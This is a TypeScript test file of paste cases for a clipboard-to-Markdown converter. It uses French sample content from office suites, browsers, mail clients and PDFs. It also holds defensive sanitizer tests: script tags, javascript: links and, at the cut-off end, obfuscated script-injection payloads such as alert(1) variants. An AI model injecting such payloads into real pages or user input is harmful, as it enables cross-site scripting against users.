    html: '<div class="ListContainerWrapper SCXW1 BCX0"><ul class="BulletListStyle1 SCXW1 BCX0" role="list"><li data-leveltext="" data-font="Symbol" data-listid="3" data-aria-posinset="1" data-aria-level="1" role="listitem" class="OutlineElement Ltr SCXW1 BCX0"><p class="Paragraph SCXW1 BCX0"><span class="TextRun SCXW1 BCX0"><span class="NormalTextRun SCXW1 BCX0">lire</span></span><span class="EOP SCXW1 BCX0">&nbsp;</span></p></li></ul></div><div class="ListContainerWrapper SCXW1 BCX0"><ul class="BulletListStyle1 SCXW1 BCX0" role="list"><li data-leveltext="" data-font="Symbol" data-listid="3" data-aria-posinset="1" data-aria-level="1" role="listitem" class="OutlineElement Ltr SCXW1 BCX0"><p class="Paragraph SCXW1 BCX0"><span class="TextRun SCXW1 BCX0"><span class="NormalTextRun SCXW1 BCX0">essayer</span></span><span class="EOP SCXW1 BCX0">&nbsp;</span></p></li></ul></div><div class="ListContainerWrapper SCXW1 BCX0"><ul class="BulletListStyle1 SCXW1 BCX0" role="list"><li data-leveltext="" data-font="Symbol" data-listid="3" data-aria-posinset="1" data-aria-level="1" role="listitem" class="OutlineElement Ltr SCXW1 BCX0"><p class="Paragraph SCXW1 BCX0"><span class="TextRun SCXW1 BCX0"><span class="NormalTextRun SCXW1 BCX0">choisir</span></span><span class="EOP SCXW1 BCX0">&nbsp;</span></p></li></ul></div>',
    expected: '- lire\n- essayer\n- choisir',
  },
  // OneNote: the bullet is text in a span hidden from screen readers.
  {
    name: 'onenote-list',
    html: '<ul class="BulletListStyle1" role="list"><li role="listitem" class="OutlineElement Ltr"><div class="ParaWrappingDiv"><p class="Paragraph"><span class="ListMarkerWrappingSpan"><span class="ListMarker" aria-hidden="true">○</span></span><span class="TextRun"><span class="NormalTextRun">appeler le CIO</span></span><span class="EOP">&nbsp;</span></p></div></li></ul>',
    expected: '- appeler le CIO',
  },
  // Two cells of Excel next to one another.
  {
    name: 'excel-cells',
    html: '<html xmlns:x="urn:schemas-microsoft-com:office:excel">\r\n<head><meta name=ProgId content=Excel.Sheet><style>\r\n<!--table\r\n\t{mso-displayed-decimal-separator:"\\,";}\r\n.xl65\r\n\t{mso-number-format:"Short Date";}\r\n-->\r\n</style></head>\r\n<body link="#0563C1">\r\n<table border=0 cellpadding=0 cellspacing=0 width=240><!--StartFragment--><col width=120 span=2>\r\n <tr height=20><td height=20 width=120>Portes ouvertes</td><td class=xl65 align=right width=120>12/12/2026</td></tr>\r\n<!--EndFragment--></table>\r\n</body>\r\n</html>',
    expected: 'Portes ouvertes 12/12/2026',
    or: [
      'Portes ouvertes\n\n12/12/2026',
      'Portes ouvertes · 12/12/2026',
      'Portes ouvertes : 12/12/2026',
      '- Portes ouvertes 12/12/2026',
    ],
  },
  // The same, when only the text is offered (tab and line end).
  {
    name: 'excel-text',
    text: 'Portes ouvertes\t12/12/2026\r\n',
    expected: 'Portes ouvertes 12/12/2026',
    or: ['Portes ouvertes · 12/12/2026', 'Portes ouvertes : 12/12/2026'],
  },
  // LibreOffice Writer.
  {
    name: 'libreoffice-paragraphs',
    html: '<!DOCTYPE html>\n<html>\n<head>\n\t<meta http-equiv="content-type" content="text/html; charset=utf-8"/>\n\t<title></title>\n\t<meta name="generator" content="LibreOffice 24.8.3.2 (Linux)"/>\n\t<style type="text/css">\n\t\t@page { size: 21cm 29.7cm; margin: 2cm }\n\t\tp { line-height: 115%; margin-bottom: 0.25cm; background: transparent }\n\t\ta:link { color: #000080; text-decoration: underline }\n\t</style>\n</head>\n<body lang="fr-FR" link="#000080" vlink="#800000" dir="ltr"><p style="line-height: 100%; margin-bottom: 0cm">\nLa Cité des <b>métiers</b> vous reçoit <i>sans\nrendez-vous</i>.</p>\n<p style="line-height: 100%; margin-bottom: 0cm"><br/>\n\n</p>\n<p style="line-height: 100%; margin-bottom: 0cm"><font face="Liberation Serif, serif"><font size="3" style="font-size: 12pt"><a href="https://www.exemple.fr/">Voir\nles horaires</a></font></font></p>\n</body>\n</html>',
    expected: 'La Cité des **métiers** vous reçoit *sans rendez-vous*.\n\n[Voir les horaires](https://www.exemple.fr/)',
  },
  // LibreOffice puts a paragraph into each item; the end tag of the item may be missing.
  {
    name: 'libreoffice-list',
    html: '<html>\n<head>\n<meta name="generator" content="LibreOffice 7.4.7.2 (Windows)"/>\n</head>\n<body lang="fr-FR" dir="ltr">\n<ul>\n\t<li><p style="line-height: 100%; margin-bottom: 0cm">un CV</p>\n\t<li><p style="line-height: 100%; margin-bottom: 0cm">une <b>lettre</b></p>\n</ul>\n</body>\n</html>',
    expected: '- un CV\n- une **lettre**',
  },
  // Pages on a Mac (Cocoa HTML Writer).
  {
    name: 'pages-mac',
    html: '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">\n<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">\n<meta http-equiv="Content-Style-Type" content="text/css">\n<title></title>\n<meta name="Generator" content="Cocoa HTML Writer">\n<meta name="CocoaVersion" content="2575.4">\n<style type="text/css">\np.p1 {margin: 0.0px 0.0px 0.0px 0.0px; font: 11.0px \'Helvetica Neue\'; color: #000000}\np.p2 {margin: 0.0px 0.0px 0.0px 0.0px; font: 11.0px \'Helvetica Neue\'; min-height: 13.0px}\nspan.s1 {font-kerning: none}\n</style>\n</head>\n<body>\n<p class="p1"><span class="s1">Bonjour<span class="Apple-converted-space"> </span><b>à toutes</b> et à tous.</span></p>\n<p class="p2"><span class="s1"></span><br></p>\n<p class="p1"><span class="s1"><i>L’équipe</i></span></p>\n</body>\n</html>',
    expected: 'Bonjour **à toutes** et à tous.\n\n*L’équipe*',
  },
  // A list of Pages: tabs and bullets as text.
  {
    name: 'pages-mac-list',
    html: '<meta name="Generator" content="Cocoa HTML Writer"><ul class="ul1">\n<li class="li1"><span class="s1"></span><span class="s2">découvrir</span></li>\n<li class="li1"><span class="s1"></span><span class="s2">essayer</span></li>\n</ul>',
    expected: '- découvrir\n- essayer',
  },
  // Notes on an iPhone: hyphens typed at the beginning of paragraphs.
  {
    name: 'apple-notes-typed-list',
    html: '<p class="p1">À prévoir</p>\n<p class="p1"><span class="Apple-converted-space"> </span>- un stylo</p>\n<p class="p1"><span class="Apple-converted-space"> </span>- un casque</p>',
    expected: 'À prévoir\n\n- un stylo\n- un casque',
  },
  // Google Docs wraps all into a <b> that is not bold; bold is a span of weight 700.
  {
    name: 'google-docs',
    html: '<meta charset=\'utf-8\'><meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-5d2b0c11-7fff-4a1e-9c55-000000000000"><p dir="ltr" style="line-height:1.38;margin-top:0pt;margin-bottom:0pt;"><span style="font-size:11pt;font-family:Arial,sans-serif;color:#000000;background-color:transparent;font-weight:400;font-style:normal;font-variant:normal;text-decoration:none;vertical-align:baseline;white-space:pre;white-space:pre-wrap;">Le forum commence </span><span style="font-size:11pt;font-weight:700;font-style:normal;white-space:pre-wrap;">à 10 h</span><span style="font-size:11pt;font-weight:400;font-style:normal;white-space:pre-wrap;">, salle </span><span style="font-size:11pt;font-weight:400;font-style:italic;white-space:pre-wrap;">Jeanne-Barret</span><span style="font-size:11pt;font-weight:400;white-space:pre-wrap;">.</span></p><br /><p dir="ltr" style="line-height:1.38;"><a href="https://www.exemple.fr/plan" style="text-decoration:none;"><span style="font-size:11pt;color:#1155cc;font-weight:400;text-decoration:underline;white-space:pre-wrap;">Le plan</span></a></p></b><br class="Apple-interchange-newline">',
    expected: 'Le forum commence **à 10 h**, salle *Jeanne-Barret*.\n\n[Le plan](https://www.exemple.fr/plan)',
  },
  // A list of Google Docs, its second item bold.
  {
    name: 'google-docs-list',
    html: '<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-00000000-7fff-0000-0000-000000000001"><ul style="margin-top:0;margin-bottom:0;padding-inline-start:48px;"><li dir="ltr" style="list-style-type:disc;font-weight:400;white-space:pre;" aria-level="1"><p dir="ltr" style="line-height:1.38;" role="presentation"><span style="font-weight:400;white-space:pre-wrap;">le métier</span></p></li><li dir="ltr" style="list-style-type:disc;font-weight:400;white-space:pre;" aria-level="1"><p dir="ltr" style="line-height:1.38;" role="presentation"><span style="font-weight:700;white-space:pre-wrap;">la formation</span></p></li></ul></b>',
    expected: '- le métier\n- **la formation**',
  },
  // Bold and italic at the same time.
  {
    name: 'google-docs-both',
    html: '<b style="font-weight:normal;" id="docs-internal-guid-00000000-7fff-0000-0000-000000000002"><span style="font-weight:700;font-style:italic;">À lire</span></b>',
    expected: '***À lire***',
    or: ['**À lire**', '*À lire*'],
  },
  // A cell of Google Sheets.
  {
    name: 'google-sheets',
    html: '<meta charset="utf-8"><google-sheets-html-origin><style type="text/css"><!--td {border: 1px solid #cccccc;}br {mso-data-placement:same-cell;}--></style><span style="font-size:10pt;font-family:Arial;" data-sheets-root="1" data-sheets-value="{&quot;1&quot;:2,&quot;2&quot;:&quot;Rennes&quot;}">Rennes, site nord</span>',
    expected: 'Rennes, site nord',
  },
  // Half a line of a web page, in Chrome: one span with forty computed styles.
  // Weight 400 and «font-style: normal» are no marks.
  {
    name: 'web-chrome-selection',
    html: '<html>\n<body>\n<!--StartFragment--><span style="color: rgb(58, 58, 58); font-family: Marianne, arial, sans-serif; font-size: 16px; font-style: normal; font-variant-ligatures: normal; font-weight: 400; letter-spacing: normal; orphans: 2; text-align: start; white-space: normal; background-color: rgb(255, 255, 255); display: inline !important; float: none;">les élèves de troisième<span> </span></span><strong style="box-sizing: border-box; font-weight: 700; color: rgb(58, 58, 58);">et de seconde</strong><!--EndFragment-->\n</body>\n</html>',
    expected: 'les élèves de troisième **et de seconde**',
  },
  // A page made of divs only: each div with text is a paragraph, blanks of the source are nothing.
  {
    name: 'web-nested-divs',
    html: '<div class="layout"><div class="col-12"><div><div>\n      Première ligne\n    </div></div>\n    <div><span>Deuxième <span><span>ligne</span></span></span></div>\n  </div></div><div>Troisième</div>',
    expected: 'Première ligne\n\nDeuxième ligne\n\nTroisième',
  },
  // An article with menu, button, frame, pixel, scripts and a form: the words of the article stay,
  // the machinery does not.
  {
    name: 'web-article',
    html: '<article><h2>Le BTS en deux ans</h2><script>window.dataLayer=[];dataLayer.push({event:"copie"})</script><p>Après le bac, <strong>deux ans</strong> d’études.</p><noscript><img height="1" width="1" src="https://trace.exemple.net/p.gif?e=1"></noscript><iframe src="https://video.exemple.net/embed/1" title="vidéo"></iframe><p><img src="https://trace.exemple.net/1x1.gif" alt="">Puis <a href="https://www.exemple.fr/bts?utm_source=partage" onclick="track(this)" class="lien" ping="https://trace.exemple.net/ping">la liste</a>.</p><style>.ad{display:block}</style><form action="https://ailleurs.exemple.net"><input value="votre e-mail"><button>Je m’abonne</button></form></article>',
    expected:
      '**Le BTS en deux ans**\n\nAprès le bac, **deux ans** d’études.\n\nPuis [la liste](https://www.exemple.fr/bts?utm_source=partage).',
    or: [
      'Le BTS en deux ans\n\nAprès le bac, **deux ans** d’études.\n\nPuis [la liste](https://www.exemple.fr/bts?utm_source=partage).',
      '**Le BTS en deux ans**\n\nAprès le bac, **deux ans** d’études.\n\nPuis [la liste](https://www.exemple.fr/bts?utm_source=partage).\n\nJe m’abonne',
      'Le BTS en deux ans\n\nAprès le bac, **deux ans** d’études.\n\nPuis [la liste](https://www.exemple.fr/bts?utm_source=partage).\n\nJe m’abonne',
    ],
  },
  // Links that cannot be links here: the words stay, the link goes.
  {
    name: 'web-links-that-are-none',
    html: '<p><a href="javascript:void(0)">Imprimer</a>, <a href="#haut">en haut</a>, <a href="data:text/html,x">fichier</a>, <a href="file:///C:/Users/nadia/plan.docx">plan</a>, <a>ancre</a>, <a href="blob:https://x/1">image</a>.</p>',
    expected: 'Imprimer, en haut, fichier, plan, ancre, image.',
  },
  // b, strong, i, em, cite, u, mark, small, font, sup: only weight and slant are marks.
  {
    name: 'web-semantic-variants',
    html: '<p><b>un</b> <strong>deux</strong> <i>trois</i> <em>quatre</em> <u>cinq</u> <mark>six</mark> <small>sept</small> <font color="red">huit</font> 1<sup>er</sup></p>',
    expected: '**un** **deux** *trois* *quatre* cinq six sept huit 1er',
    or: ['**un deux** *trois quatre* cinq six sept huit 1er'],
  },
  // Bold and slant as styles, in several spellings.
  {
    name: 'web-style-weights',
    html: '<p><span style="font-weight:600">un</span> <span style="FONT-WEIGHT: Bold">deux</span> <span style="font-weight:bolder">trois</span> <span style="font-weight:500">quatre</span> <span style="font-style:oblique">cinq</span> <strong style="font-weight:400">six</strong></p>',
    expected: '**un** **deux** **trois** quatre *cinq* six',
    or: [
      '**un** **deux** **trois** quatre *cinq* **six**',
      '**un deux trois** quatre *cinq* six',
      '**un deux trois** quatre *cinq* **six**',
      'un deux trois quatre cinq **six**',
    ],
  },
  // Text that is not seen on the page it comes from.
  {
    name: 'web-hidden-text',
    html: '<p>Visible<span style="display:none">caché pour les moteurs</span><span hidden>caché aussi</span></p>',
    expected: 'Visible',
    or: ['Visiblecaché pour les moteurscaché aussi'],
  },
  // Blanks at the edge of a mark stay outside of it; two bold pieces side by side are one; an empty bold is nothing.
  {
    name: 'web-marks-and-blanks',
    html: '<p>un<b> mot </b>et <b>Bon</b><b>jour</b><b></b><i> </i>fin</p>',
    expected: 'un **mot** et **Bonjour** fin',
  },
  // Bold around two paragraphs and a list: each one is bold by itself.
  {
    name: 'web-bold-around-blocks',
    html: '<b><p>un</p><p>deux</p><ul><li>trois</li></ul></b>',
    expected: '**un**\n\n**deux**\n\n- **trois**',
    or: ['un\n\ndeux\n\n- trois'],
  },
  // A bold link.
  {
    name: 'web-bold-link',
    html: '<p>Voir <b><a href="https://www.exemple.fr/a">la page</a></b>.</p>',
    expected: 'Voir **[la page](https://www.exemple.fr/a)**.',
    or: ['Voir [**la page**](https://www.exemple.fr/a).', 'Voir [la page](https://www.exemple.fr/a).'],
  },
  // A nested list, a definition list, a list without end tags.
  {
    name: 'web-lists',
    html: '<ul><li>un<ul><li>un bis</li></ul></li><li>deux</ul><dl><dt>Durée</dt><dd>une heure</dd></dl>',
    expected: '- un\n- un bis\n- deux\n\nDurée\n\nune heure',
    or: ['- un\n  - un bis\n- deux\n\nDurée\n\nune heure', '- un\n- un bis\n- deux\n\nDurée\nune heure'],
  },
  // A quotation and a caption.
  {
    name: 'web-quote-and-figure',
    html: '<blockquote><p>« J’ai osé. »</p></blockquote><figure><img src="https://x.exemple.fr/a.jpg" alt="Lina"><figcaption>Lina, 17 ans</figcaption></figure>',
    expected: '« J’ai osé. »\n\nLina, 17 ans',
  },
  // A page that separates paragraphs by two line breaks, lines by one.
  {
    name: 'web-line-breaks',
    html: 'Premier.<br><br>Second,<br>suite.<br><br><br>Dernier.',
    expected: 'Premier.\n\nSecond,\nsuite.\n\nDernier.',
  },
  // White space that counts.
  {
    name: 'web-preformatted',
    html: '<pre>lundi 9 h\nmardi 14 h</pre>',
    expected: 'lundi 9 h\nmardi 14 h',
    or: ['lundi 9 h\n\nmardi 14 h', 'lundi 9 h mardi 14 h'],
  },
  // Arabic, from right to left, with a link.
  {
    name: 'web-arabic',
    html: '<p dir="rtl" lang="ar">مرحبا بكم في <b>يوم المهن</b> <a href="https://www.exemple.fr/ar">هنا</a></p>',
    expected: 'مرحبا بكم في **يوم المهن** [هنا](https://www.exemple.fr/ar)',
  },
  // Letters as entities: seen as letters, and never as markup.
  {
    name: 'web-entities',
    html: '<p>a &lt; b &amp;&amp; c &gt; d, &laquo;&nbsp;oui&nbsp;&raquo;, &lt;b&gt;pas gras&lt;/b&gt;, &amp;lt;</p>',
    expected: 'a < b && c > d, « oui », <b>pas gras</b>, &lt;',
  },
  // An address with brackets and a blank, a title with brackets.
  {
    name: 'web-link-with-brackets',
    html: '<p><a href="https://www.exemple.fr/a_(b)?q=1&amp;r=2">plan [nord]</a></p>',
    expected: '[plan [nord]](https://www.exemple.fr/a_(b)?q=1&r=2)',
    or: [
      '[plan \\[nord\\]](https://www.exemple.fr/a_(b)?q=1&r=2)',
      '[plan [nord]](https://www.exemple.fr/a_%28b%29?q=1&r=2)',
    ],
  },
  // A card that is a link around a title and a paragraph.
  {
    name: 'web-link-around-blocks',
    html: '<a href="https://www.exemple.fr/carte"><div><h3>Boulanger</h3><p>Debout tôt.</p></div></a>',
    expected: '[Boulanger](https://www.exemple.fr/carte)\n\n[Debout tôt.](https://www.exemple.fr/carte)',
    or: [
      '**[Boulanger](https://www.exemple.fr/carte)**\n\n[Debout tôt.](https://www.exemple.fr/carte)',
      '[**Boulanger**](https://www.exemple.fr/carte)\n\n[Debout tôt.](https://www.exemple.fr/carte)',
      'Boulanger\n\nDebout tôt.',
      '**Boulanger**\n\nDebout tôt.',
    ],
  },
  // Only a picture was copied («Copier l’image»): nothing is added, and the field says so.
  {
    name: 'web-picture-alone',
    html: '<meta charset="utf-8"><img src="https://x.exemple.fr/photo.jpg" alt="photo"/>',
    expected: '',
  },
  // Only blanks.
  { name: 'web-nothing', html: '<p>&nbsp;</p><div> <br> </div>', expected: '' },
  // A text of a writing assistant: attributes data-start, a rule, titles of level three.
  {
    name: 'assistant-html',
    html: '<h3 data-start="0" data-end="22">Pourquoi venir</h3>\n<p data-start="24" data-end="60">Vous verrez <strong data-start="36" data-end="48">trois lieux</strong>.</p>\n<hr data-start="62" data-end="65">\n<ol data-start="67" data-end="99">\n<li data-start="67" data-end="80">\n<p data-start="70" data-end="80">le fournil</p>\n</li>\n<li data-start="81" data-end="99">\n<p data-start="84" data-end="99">l’atelier</p>\n</li>\n</ol>',
    expected: '**Pourquoi venir**\n\nVous verrez **trois lieux**.\n\n- le fournil\n- l’atelier',
    or: [
      'Pourquoi venir\n\nVous verrez **trois lieux**.\n\n- le fournil\n- l’atelier',
      '**Pourquoi venir**\n\nVous verrez **trois lieux**.\n\n1. le fournil\n2. l’atelier',
      'Pourquoi venir\n\nVous verrez **trois lieux**.\n\n1. le fournil\n2. l’atelier',
    ],
  },
  // Notion: a comment at its end.
  {
    name: 'notion',
    html: "<meta charset='utf-8'><p>Une idée</p>\n<ul>\n<li>lire</li>\n</ul>\n<!-- notionvc: 6e1f0000-0000-0000-0000-000000000000 -->",
    expected: 'Une idée\n\n- lire',
  },
  // A mail of Gmail, with the mail it answers.
  {
    name: 'mail-gmail',
    html: '<div dir="ltr"><div>Bonjour Nadia,</div><div><br></div><div>Oui pour <b>le 12</b>.</div><div>Paul</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">Le ven. 27 nov. 2026 à 18:02, Nadia &lt;<a href="mailto:nadia@exemple.fr">nadia@exemple.fr</a>&gt; a écrit :<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex"><div dir="ltr">Le 12, ça va ?</div></blockquote></div>',
    expected:
      'Bonjour Nadia,\n\nOui pour **le 12**.\n\nPaul\n\nLe ven. 27 nov. 2026 à 18:02, Nadia <nadia@exemple.fr> a écrit :\n\nLe 12, ça va ?',
    or: [
      'Bonjour Nadia,\n\nOui pour **le 12**.\nPaul\n\nLe ven. 27 nov. 2026 à 18:02, Nadia <nadia@exemple.fr> a écrit :\n\nLe 12, ça va ?',
    ],
  },
  // Outlook on Windows: Word’s markup in a mail, with the header of the answered mail.
  {
    name: 'mail-outlook-windows',
    html: '<html xmlns:o="urn:schemas-microsoft-com:office:office"\r\nxmlns:w="urn:schemas-microsoft-com:office:word">\r\n<head><meta name=Generator content="Microsoft Word 15"><style><!--\r\np.MsoNormal {margin:0cm;}\r\n--></style></head>\r\n<body lang=FR><!--StartFragment--><div class=WordSection1><p class=MsoNormal><span style=\'mso-fareast-language:EN-US\'>Bonjour,<o:p></o:p></span></p><p class=MsoNormal><span style=\'mso-fareast-language:EN-US\'><o:p>&nbsp;</o:p></span></p><p class=MsoNormal>Voici <u>le texte</u>.<o:p></o:p></p><div><div style=\'border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm\'><p class=MsoNormal><b>De :</b> Paul<br><b>Objet :</b> Atelier<o:p></o:p></p></div></div></div><!--EndFragment--></body></html>',
    expected: 'Bonjour,\n\nVoici le texte.\n\n**De :** Paul\n**Objet :** Atelier',
  },
  // Outlook in a browser.
  {
    name: 'mail-outlook-web',
    html: '<div style="font-family: Aptos, Aptos_EmbeddedFont, Calibri, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);" class="elementToProof">Bonjour,</div><div class="elementToProof"><br></div><div class="elementToProof">Le <strong>plan</strong> est <a href="https://www.exemple.fr/plan" id="OWA1" class="OWAAutoLink" data-loopstyle="linkonly">ici</a>.</div><div id="appendonsend"></div><hr tabindex="-1" style="display:inline-block; width:98%">',
    expected: 'Bonjour,\n\nLe **plan** est [ici](https://www.exemple.fr/plan).',
  },
  // Thunderbird: a quotation with its own paragraph of introduction.
  {
    name: 'mail-thunderbird',
    html: '<p>D’accord.</p>\n<div class="moz-cite-prefix">Le 27/11/2026 à 18:02, Nadia a écrit :<br>\n</div>\n<blockquote type="cite" cite="mid:1@exemple.fr"><pre class="moz-quote-pre" wrap="">On commence à 9 h.</pre></blockquote>\n<div class="moz-signature">-- <br>Paul</div>',
    expected: 'D’accord.\n\nLe 27/11/2026 à 18:02, Nadia a écrit :\n\nOn commence à 9 h.\n\n--\nPaul',
  },
  // A mail without styles, lines cut after 72 signs, marks of quotation.
  {
    name: 'mail-plain',
    text: 'Bonjour,\r\n\r\nD’accord pour le 12, on commence à 9 h et on finit à midi au plus\r\ntard.\r\n\r\n> Le 12, ça va ?\r\n',
    expected: 'Bonjour,\n\nD’accord pour le 12, on commence à 9 h et on finit à midi au plus tard.\n\n> Le 12, ça va ?',
    or: ['Bonjour,\n\nD’accord pour le 12, on commence à 9 h et on finit à midi au plus\ntard.\n\n> Le 12, ça va ?'],
  },
  // Teams: a mention is a name.
  {
    name: 'teams-mention',
    html: '<p>Merci <span itemscope itemtype="http://schema.skype.com/Mention" itemid="0">Paul</span>&nbsp;!<img alt="🙂" src="https://statics.exemple.net/smile.png" itemtype="http://schema.skype.com/Emoji"></p>',
    expected: 'Merci Paul !',
    or: ['Merci Paul !🙂', 'Merci Paul ! 🙂'],
  },
  // A PDF: each line of the page ends with a line break, a blank line separates paragraphs.
  {
    name: 'pdf-lines',
    text: 'Le métier de soudeuse demande de la précision\net du calme. On travaille debout, souvent\nen équipe.\n\nOn peut commencer après un CAP.',
    expected:
      'Le métier de soudeuse demande de la précision et du calme. On travaille debout, souvent en équipe.\n\nOn peut commencer après un CAP.',
    or: [
      'Le métier de soudeuse demande de la précision\net du calme. On travaille debout, souvent\nen équipe.\n\nOn peut commencer après un CAP.',
    ],
  },
  // Words cut at the end of a line; a word that has a hyphen of its own; soft hyphens are nothing. The
  // tool may leave a visible hyphen («orienta- tion»), never glue a compound («rendezvous»).
  {
    name: 'pdf-hyphens',
    text: 'Une conseillère d’orienta-\ntion prend rendez-\nvous avec vous pour un entre\u00adtien.',
    expected: 'Une conseillère d’orientation prend rendez-vous avec vous pour un entretien.',
    or: [
      'Une conseillère d’orienta-\ntion prend rendez-\nvous avec vous pour un entretien.',
      'Une conseillère d’orienta- tion prend rendez- vous avec vous pour un entretien.',
      'Une conseillère d’orienta-tion prend rendez-vous avec vous pour un entretien.',
    ],
  },
  // Ligatures of a font are letters again; œ and æ are letters of French and stay.
  {
    name: 'pdf-ligatures',
    text: 'La \ufb01lière e\ufb03cace, un \ufb02ux, o\ufb00rir ; l’œuvre, ex æquo.',
    expected: 'La filière efficace, un flux, offrir ; l’œuvre, ex æquo.',
  },
  // Bullets of a PDF: a round bullet, a sign of the private area, a dash.
  {
    name: 'pdf-bullets',
    text: 'Il faut :\n• un masque\n\uf0b7 des gants\n– un tablier',
    expected: 'Il faut :\n\n- un masque\n- des gants\n- un tablier',
  },
  // The PDF viewer of a browser: spans and line breaks.
  {
    name: 'pdf-html',
    html: '<meta charset="utf-8"><span style="left: 70.9px; top: 120px; font-size: 14px; font-family: sans-serif;" role="presentation" dir="ltr">Une formation courte,</span><br role="presentation"><span role="presentation" dir="ltr">près de chez vous.</span>',
    expected: 'Une formation courte,\nprès de chez vous.',
    or: ['Une formation courte, près de chez vous.'],
  },
  // Accents of a PDF made on a Mac: e and its accent are two signs; read and searched as one.
  { name: 'pdf-decomposed', text: 'Un e\u0301tablissement re\u0301gional', expected: 'Un établissement régional' },
  // Typed in the notepad: hyphens, stars, numbers.
  {
    name: 'plain-list-hyphen',
    text: 'Plan\n- un\n- deux\n\n* trois\n* quatre\n\n1. cinq\n2) six',
    expected: 'Plan\n\n- un\n- deux\n\n- trois\n- quatre\n\n- cinq\n- six',
    or: [
      'Plan\n\n- un\n- deux\n\n- trois\n- quatre\n\n1. cinq\n2. six',
      'Plan\n\n- un\n- deux\n\n- trois\n- quatre\n\n1. cinq\n2) six',
      'Plan\n\n- un\n- deux\n- trois\n- quatre\n\n- cinq\n- six',
      'Plan\n\n- un\n- deux\n- trois\n- quatre\n\n1. cinq\n2) six',
      'Plan\n\n- un\n- deux\n\n- trois\n- quatre\n\n1. cinq\n2) six',
      'Plan\n\n- un\n- deux\n\n- trois\n- quatre\n\n1. cinq\n\n2) six',
    ],
  },
  // A hyphen inside a sentence, a dialogue with a dash, a negative number: no list.
  {
    name: 'plain-hyphen-inside',
    text: 'Le rendez-vous - avec Paul - est à 9 h.\n\n-5 degrés ce matin.',
    expected: 'Le rendez-vous - avec Paul - est à 9 h.\n\n-5 degrés ce matin.',
  },
  // Line ends of another age (CR alone), blank lines with blanks.
  { name: 'plain-old-mac', text: 'un\r\rdeux\r\n \t \r\ntrois', expected: 'un\n\ndeux\n\ntrois' },
  // A bare address stays words, or is a link to itself.
  {
    name: 'plain-address',
    text: 'Voir https://www.exemple.fr/a_b_c?x=*1* avant vendredi.',
    expected: 'Voir https://www.exemple.fr/a_b_c?x=*1* avant vendredi.',
    or: ['Voir [https://www.exemple.fr/a_b_c?x=*1*](https://www.exemple.fr/a_b_c?x=*1*) avant vendredi.'],
  },
  // An SMS: emoji of several signs stay whole.
  { name: 'plain-emoji', text: 'Bravo 👩🏽\u200d🔧 et 🇫🇷 !', expected: 'Bravo 👩🏽\u200d🔧 et 🇫🇷 !' },
  // A professional pastes the source of a page as text: it is text, seen as typed.
  {
    name: 'plain-markup',
    text: '<p>Bonjour <strong>vous</strong></p>',
    expected: '<p>Bonjour <strong>vous</strong></p>',
  },
  // Made by LibreOffice itself (its HTML filter, which its clipboard uses): title, list of two levels, numbers,
  // link, line break, table.
  {
    name: 'libreoffice-real',
    html: '<!DOCTYPE html>\n<html>\n<head>\n\t<meta http-equiv="content-type" content="text/html; charset=utf-8"/>\n\t<title></title>\n\t<meta name="generator" content="LibreOffice 7.4.7.2 (Linux)"/>\n\t<meta name="created" content="00:00:00"/>\n\t<meta name="changed" content="00:00:00"/>\n\t<meta name="" content=""/>\n\t<style type="text/css">\n\t\t@page { size: 8.27in 11.69in; margin-left: 0.79in; margin-right: 0.39in; margin-top: 0.39in; margin-bottom: 0.39in }\n\t\tp { line-height: 115%; margin-bottom: 0.1in; background: transparent }\n\t\th2 { margin-top: 0.14in; margin-bottom: 0.08in; background: transparent; page-break-after: avoid }\n\t\th2.western { font-family: "DejaVu Serif", serif; font-size: 18pt; font-weight: bold }\n\t\th2.cjk { font-family: "DejaVu Sans"; font-size: 18pt; font-weight: bold }\n\t\th2.ctl { font-family: "DejaVu Sans"; font-size: 18pt; font-weight: bold }\n\t\ttd p { orphans: 0; widows: 0; background: transparent }\n\t\ta:link { color: #000080; text-decoration: underline }\n\t</style>\n</head>\n<body lang="en-US" link="#000080" vlink="#800000" dir="ltr"><h2 class="western">\nLa visite</h2>\n<p>Le fournil ouvre <b>à 5 h</b>. On y entre <i>sans bruit</i>&nbsp;:\nle pain lève.</p>\n<ul>\n\t<li><p style="margin-bottom: 0in">un tablier</p>\n\t<li><p style="margin-bottom: 0in">des <b>chaussures</b> fermées</p>\n\t<ul>\n\t\t<li><p>pas de sandales</p>\n\t</ul>\n</ul>\n<ol>\n\t<li><p style="margin-bottom: 0in">entrer</p>\n\t<li><p>regarder</p>\n</ol>\n<p>Voir <a href="https://www.exemple.fr/fournil">le plan</a>.<br/>\n12,\nrue du Port</p>\n<p><br/>\n\n</p>\n</body>\n</html>',
    expected:
      '**La visite**\n\nLe fournil ouvre **à 5 h**. On y entre *sans bruit* : le pain lève.\n\n- un tablier\n- des **chaussures** fermées\n- pas de sandales\n\n- entrer\n- regarder\n\nVoir [le plan](https://www.exemple.fr/fournil).\n12, rue du Port',
    or: [
      'La visite\n\nLe fournil ouvre **à 5 h**. On y entre *sans bruit* : le pain lève.\n\n- un tablier\n- des **chaussures** fermées\n- pas de sandales\n\n- entrer\n- regarder\n\nVoir [le plan](https://www.exemple.fr/fournil).\n12, rue du Port',
      '**La visite**\n\nLe fournil ouvre **à 5 h**. On y entre *sans bruit* : le pain lève.\n\n- un tablier\n- des **chaussures** fermées\n- pas de sandales\n\n1. entrer\n2. regarder\n\nVoir [le plan](https://www.exemple.fr/fournil).\n12, rue du Port',
      'La visite\n\nLe fournil ouvre **à 5 h**. On y entre *sans bruit* : le pain lève.\n\n- un tablier\n- des **chaussures** fermées\n- pas de sandales\n\n1. entrer\n2. regarder\n\nVoir [le plan](https://www.exemple.fr/fournil).\n12, rue du Port',
    ],
  },
]

export const hostileCases: PasteCase[] = [
  { name: 'script', html: '<p>Avant</p><script>alert(1)</script><p>Après</p>', expected: 'Avant\n\nAprès' },
  {
    name: 'script with blanks and slash',
    html: '<p>Avant</p><script/x>alert(1)</script\t\n><p>Après</p>',
    expected: 'Avant\n\nAprès',
  },
  {
    name: 'script in two',
